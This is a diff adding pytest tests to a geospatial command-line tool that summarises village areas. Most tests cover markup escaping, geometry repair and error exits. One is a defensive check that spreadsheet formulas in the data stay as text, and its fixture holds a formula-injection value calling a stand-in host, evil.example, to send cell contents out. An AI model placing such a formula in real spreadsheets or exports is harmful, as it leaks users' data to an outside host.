@@ -176,3 +176,60 @@ def test_done_when_on_the_sample(runner, sample_dir):
     assert set(got.index) == set(by_village.index)
     for village, mu in by_village.items():
         assert got[village] == pytest.approx(mu, abs=0.006)
+
+
+def test_values_are_never_console_markup(runner, tiny_township):
+    """A village called '[/]' or '[bold]x' prints as typed and breaks nothing."""
+    import geopandas as gpd
+
+    villages = gpd.read_file(tiny_township / "town.gpkg", layer="villages")
+    villages["村名"] = ["[/]甲村", "[link=http://x]乙村"]
+    villages.to_file(tiny_township / "town.gpkg", layer="villages")
+    result = run(runner, "area", "villages", "--by", "village", "--township", tiny_township)
+    assert result.exit_code == 0, result.stderr
+    assert "[/]甲村" in result.stdout and "[link=http://x]乙村" in result.stdout
+
+
+def test_formulas_in_data_stay_text_in_excel_and_csv(runner, tiny_township, tmp_path):
+    import geopandas as gpd
+    from openpyxl import load_workbook
+
+    villages = gpd.read_file(tiny_township / "town.gpkg", layer="villages")
+    villages["村名"] = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2"]
+    villages.to_file(tiny_township / "town.gpkg", layer="villages")
+    out = tmp_path / "v.xlsx"
+    assert run(runner, "area", "villages", "--by", "village", "-o", out, "--township", tiny_township).exit_code == 0
+    ws = load_workbook(out)["summary"]
+    cells = [ws.cell(row=r, column=1) for r in range(2, 4)]
+    assert all(c.data_type == "s" for c in cells)
+    assert {c.value for c in cells} == {'=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2"}
+    csv = run(runner, "area", "villages", "--by", "village", "--format", "csv", "--township", tiny_township).stdout
+    assert "'=HYPERLINK" in csv and "'+1+2" in csv
+    assert ",-" not in csv  # numbers untouched
+
+
+def test_repaired_geometries_are_announced_by_every_command(runner, tiny_township):
+    import geopandas as gpd
+    from shapely.geometry import Polygon
+
+    villages = gpd.read_file(tiny_township / "town.gpkg", layer="villages")
+    villages.loc[0, "geometry"] = Polygon([(117.49, 30.49), (117.50, 30.50), (117.50, 30.49), (117.49, 30.50)])
+    villages.to_file(tiny_township / "town.gpkg", layer="villages")
+    result = run(runner, "area", "villages", "--township", tiny_township, "--format", "json")
+    assert result.exit_code == 0
+    assert "invalid geometry repaired" in result.stderr and "甲村" in result.stderr
+    assert json.loads(result.stdout)["provenance"]["inputs"][0]["geometries_repaired"] == ["甲村"]
+
+
+def test_area_of_points_or_lines_is_refused(runner, tiny_township):
+    result = runner.invoke(main, ["area", "infected_trees", "--township", str(tiny_township)])
+    assert result.exit_code == 2 and "points, which have no area" in result.stderr
+
+
+def test_info_exits_2_when_a_layer_cannot_be_read_and_lists_rasters(runner, tiny_township, sample_dir):
+    (tiny_township / "trees.csv").write_text("编号,东,北\n1,2,3\n", encoding="utf-8")
+    result = runner.invoke(main, ["info", "--township", str(tiny_township)])
+    assert result.exit_code == 2
+    assert "no coordinate columns" in result.stdout and "villages" in result.stdout
+    sample = run(runner, "info", "--township", sample_dir)
+    assert "Rasters" in sample.stdout and "715 × 524" in sample.stdout  # the DEM's grid
